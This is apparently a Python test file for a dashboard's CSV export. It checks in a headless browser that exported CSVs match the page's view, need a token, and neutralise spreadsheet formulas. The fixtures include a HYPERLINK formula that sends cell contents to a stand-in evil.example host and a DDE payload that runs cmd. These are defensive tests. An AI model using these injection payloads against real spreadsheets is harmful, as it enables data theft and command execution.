"""The dashboard's CSV export (issue 31) in a real headless Chromium against a real worker (the
fixtures of test_dashboard.py): the export button's links download, with the page's session (the
token), CSVs equal to the view the page shows (the chart's posts per brand, the brand table, the
headline, the feed's mentions), and an author and a text written as a formula or as markup come out
literally, neutralised for a spreadsheet."""
from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime, timezone
from pathlib import Path

from browser import Browser
from support import produce
from test_dashboard import (FIGURES, SET_VIEW, TOKEN, XSS_AUTHOR, XSS_TEXT, _get, _page, dash,  # noqa: F401 - fixture
                            pytestmark)

FORMULA_AUTHOR = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_TEXT = "+cmd|' /C calc'!A0 acme air lost my bag <b>again</b>"
HOSTILE = {"id": "csv-1", "author": FORMULA_AUTHOR, "text": FORMULA_TEXT, "platform": "@x", "lang": "en"}


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _download(b: Browser, kind: str, folder: Path) -> tuple[str, str]:
    """Click the export link of ``kind`` in the page and read the file Chromium saved (into a folder of
    its own): (its name, its text)."""
    into = folder / str(len(list(folder.iterdir())))
    into.mkdir()
    b.send("Page.setDownloadBehavior", behavior="allow", downloadPath=str(into))
    b.eval(f"document.querySelector('#export-menu a[data-export=\"{kind}\"]').click()")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        done = [p for p in into.iterdir() if p.suffix == ".csv"]
        if done:
            time.sleep(0.2)
            return done[0].name, done[0].read_text(encoding="utf-8")
        time.sleep(0.1)
    raise AssertionError(f"no {kind} CSV downloaded into {into}: {sorted(p.name for p in into.iterdir())}")


def _hostile_post_shown(b: Browser, dash) -> None:
    """The post with a formula for its author and text, sent once, in the page's feed."""
    if not b.eval("!!document.querySelector('#feed li[data-id=\"csv-1\"]')"):
        produce(dash.settings, [{**HOSTILE, "created_at": datetime.now(timezone.utc).isoformat(timespec="seconds")}])
    b.wait_for("!!document.querySelector('#feed li[data-id=\"csv-1\"]')", 90)


def test_the_csv_export_equals_the_view_and_keeps_hostile_cells_literal(dash):
    b = _page(dash)
    folder = dash.tmp / "downloads"
    folder.mkdir(exist_ok=True)
    _hostile_post_shown(b, dash)
    b.eval("document.getElementById('export').click()")
    assert b.eval("document.getElementById('export').getAttribute('aria-expanded')") == "true"
    assert not b.eval("document.getElementById('export-menu').hidden")
    for view in ({}, {"label": "negative"}, {"brand": "acme"}):
        b.wait_for(f"{SET_VIEW}({json.dumps(view)})", 20)
        b.wait_for("(() => { const f = " + FIGURES + "; return Object.keys(f.table).length > 0 && "
                   + " && ".join(f"f.hash.includes('{k}={v}')" for k, v in view.items()) + (" && " if view else "")
                   + "true; })()", 20)
        time.sleep(1.5)  # a snapshot's tick: the page and the export read the same one
        shown = b.eval(FIGURES)
        name, windows = _download(b, "windows", folder)
        assert name.startswith("mmstream-windows-1h") and all(v in name for v in view.values())
        _, mentions = _download(b, "mentions", folder)
        w_rows, m_rows = _rows(windows), _rows(mentions)
        # the windows: the chart's posts per brand, bucket by bucket summed
        chart: dict[str, int] = {}
        for row in w_rows:
            chart[row["brand"]] = chart.get(row["brand"], 0) + int(row["posts"])
        assert chart == shown["chart"], (view, chart, shown["chart"])
        assert {row["source"] for row in w_rows} == {"mentions" if view.get("label") else "windows"}
        assert any(row["open"] == "true" for row in w_rows) and w_rows[-1]["open"] == "true"
        # the mentions: every one matches the view; with a filter beyond the brand the table and the
        # headline are counted from these very mentions
        assert m_rows and all(r["label"] == view.get("label", r["label"]) for r in m_rows)
        assert all(view.get("brand", "acme") in r["brands"].split(" ") or "brand" not in view for r in m_rows)
        per_brand: dict[str, int] = {}
        for r in m_rows:
            for brand in r["brands"].split(" "):
                if not view.get("brand") or brand == view["brand"]:
                    per_brand[brand] = per_brand.get(brand, 0) + 1
        assert sum(per_brand.values()) == int(shown["kpi"]["brand mentions"]), (view, per_brand, shown["kpi"])
        assert per_brand == shown["table"], (view, per_brand, shown["table"])
        # the feed's rows are the export's (all of them while the page's first fill, 100, holds them)
        feed = set(b.eval("[...document.querySelectorAll('#feed li.mention')].map(li => li.dataset.id)"))
        ids = [r["id"] for r in m_rows]
        assert feed == set(ids) if len(ids) < 100 else feed <= set(ids), (sorted(feed ^ set(ids)))
    b.wait_for(f"{SET_VIEW}({{}})", 20)
    _, mentions = _download(b, "mentions", folder)
    by_id = {r["id"]: r for r in _rows(mentions)}
    # formulas neutralised with a leading single quote, markup literal, quotes and commas intact
    assert by_id["csv-1"]["author"] == "'" + FORMULA_AUTHOR
    assert by_id["csv-1"]["text"] == "'" + FORMULA_TEXT
    assert by_id["csv-1"]["platform"] == "'@x"
    assert by_id["xss-1"]["text"] == XSS_TEXT and by_id["xss-1"]["author"] == XSS_AUTHOR
    raw = mentions.splitlines()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw)
    assert b.eval("typeof window.__pwned") == "undefined"
    assert b.problems() == []


def test_the_export_needs_the_token_and_answers_a_bad_view_with_the_fix(dash):
    port = dash.settings.web_port
    assert _get(port, "/export/mentions.csv").status == 401
    auth = {"Authorization": f"Bearer {TOKEN}"}
    ok = _get(port, "/export/windows.csv?range=15m&brand=acme", auth)
    assert ok.status == 200 and ok.getheader("Content-Type").startswith("text/csv")
    assert ok.getheader("Content-Disposition") == 'attachment; filename="mmstream-windows-15m-acme.csv"'
    assert "Content-Security-Policy" in ok.headers
    bad = _get(port, "/export/mentions.csv?range=2y", auth)
    assert bad.status == 400 and "'range' must be one of" in json.loads(bad.body)["error"]
